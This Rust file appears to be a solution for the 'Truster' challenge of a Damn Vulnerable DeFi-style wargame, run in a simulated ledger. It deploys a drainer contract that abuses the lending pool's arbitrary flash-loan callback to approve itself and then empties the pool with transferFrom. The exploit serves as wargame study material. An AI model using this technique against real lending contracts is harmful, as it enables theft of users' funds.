//! Truster: turn a free flash loan's arbitrary call into a token allowance.
//!
//! A zero-amount loan whose callback is `token.approve(helper, balance)`
//! leaves the pool's balance untouched, so the repayment check passes and
//! the allowance stays. The helper then pulls everything with
//! `transferFrom`, all inside its constructor.

use std::sync::Arc;

use alloy_primitives::{Address, U256};
use gauntlet_ledger::abi::Selector;
use gauntlet_ledger::contract::{Contract, Frame};
use gauntlet_ledger::primitives::ether;
use gauntlet_ledger::revert::{require, CallResult, Revert};
use gauntlet_ledger::vm::Ledger;
use gauntlet_targets::dvt::DamnValuableToken;
use gauntlet_targets::erc20;
use gauntlet_targets::truster::{self, TrusterLenderPool};
use tracing::debug;

use crate::actors::DEPLOYER;
use crate::contract::{check_eq, setup_eq, PhaseExt, Scenario, ScenarioError, TrackedBalance};

pub const ID: &str = "truster";

fn tokens_in_pool() -> U256 {
    ether(1_000_000)
}

#[derive(Debug, Clone, Copy)]
pub struct Truster;

#[derive(Debug, Clone, Copy)]
pub struct Fixture {
    pub token: Address,
    pub pool: Address,
    pub player: Address,
}

/// Approves itself through the pool's callback, then moves the pool's whole
/// balance to its deployer.
#[derive(Debug, Clone, Copy)]
pub struct TrusterDrainer {
    pub pool: Address,
    pub token: Address,
}

impl Contract for TrusterDrainer {
    fn name(&self) -> &'static str {
        "TrusterDrainer"
    }

    fn construct(&self, vm: &mut Ledger, frame: &Frame) -> CallResult<()> {
        let this = frame.address;
        let balance = erc20::balance_of(vm, self.token, self.pool)?;
        let approve = erc20::calls::approve(this, balance);
        let loan = truster::calls::flash_loan(U256::ZERO, this, self.token, &approve);
        vm.call(this, self.pool, U256::ZERO, &loan)?;
        let moved = erc20::transfer_from(vm, this, self.token, self.pool, frame.caller, balance)?;
        require(moved, "transferFrom returned false")
    }

    fn call(&self, _vm: &mut Ledger, _frame: &Frame, input: &[u8]) -> CallResult<Vec<u8>> {
        match Selector::from_input(input) {
            Some(selector) => Err(Revert::UnknownSelector {
                contract: self.name(),
                selector,
            }),
            None => Err(Revert::NotPayable {
                contract: self.name(),
            }),
        }
    }
}

impl Scenario for Truster {
    type Fixture = Fixture;

    fn id(&self) -> &'static str {
        ID
    }

    fn player_transaction_budget(&self) -> Option<u64> {
        Some(1)
    }

    fn setup(&self, vm: &mut Ledger) -> Result<Fixture, ScenarioError> {
        let token = vm
            .deploy(DEPLOYER, Arc::new(DamnValuableToken), U256::ZERO)
            .in_setup("deploy token")?;
        let pool = vm
            .deploy(DEPLOYER, Arc::new(TrusterLenderPool { token }), U256::ZERO)
            .in_setup("deploy pool")?;
        let reported = truster::token(vm, pool).in_setup("token()")?;
        setup_eq("pool token", token, reported)?;

        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::transfer(pool, tokens_in_pool()),
        )
        .in_setup("fund pool")?;
        setup_eq(
            "pool token balance",
            tokens_in_pool(),
            erc20::balance_of(vm, token, pool).in_setup("read pool balance")?,
        )?;
        let player = self.player();
        setup_eq(
            "player token balance",
            U256::ZERO,
            erc20::balance_of(vm, token, player).in_setup("read player balance")?,
        )?;
        Ok(Fixture {
            token,
            pool,
            player,
        })
    }

    fn execute(&self, vm: &mut Ledger, fixture: &mut Fixture) -> Result<(), ScenarioError> {
        let drainer = TrusterDrainer {
            pool: fixture.pool,
            token: fixture.token,
        };
        let address = vm
            .deploy(fixture.player, Arc::new(drainer), U256::ZERO)
            .attack_step("deploy drainer")?;
        debug!(%address, "drainer deployed");
        Ok(())
    }

    fn verify(&self, vm: &Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
        let balance = |holder| {
            erc20::balance_of(vm, fixture.token, holder).in_check("token balance readable")
        };
        check_eq("player token balance", tokens_in_pool(), balance(fixture.player)?)?;
        check_eq("pool token balance", U256::ZERO, balance(fixture.pool)?)
    }

    fn tracked_balances(&self, fixture: &Fixture) -> Vec<TrackedBalance> {
        vec![
            TrackedBalance::token("pool_dvt", fixture.token, fixture.pool),
            TrackedBalance::token("player_dvt", fixture.token, fixture.player),
        ]
    }
}
